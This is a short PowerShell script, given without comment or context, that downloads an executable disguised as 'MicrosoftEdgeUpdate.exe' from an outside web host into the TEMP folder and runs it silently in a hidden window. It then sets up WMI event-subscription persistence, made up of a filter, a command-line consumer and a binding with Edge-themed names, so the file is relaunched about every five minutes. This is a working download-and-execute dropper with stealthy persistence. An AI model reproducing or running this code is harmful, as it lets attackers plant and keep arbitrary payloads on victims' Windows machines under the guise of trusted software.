$dest = Join-Path $env:TEMP 'MicrosoftEdgeUpdate.exe'
Import-Module BitsTransfer
Start-BitsTransfer -Source 'http://updates.example-cdn.com/edge/MicrosoftEdgeUpdate.exe' -Destination $dest
Start-Sleep -Seconds 3
Start-Process -FilePath $dest -ArgumentList '/silent' -WindowStyle Hidden

$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{
    Name = 'EdgeUpdateFilter'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
    Name = 'EdgeUpdateConsumer'; CommandLineTemplate = $dest
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null
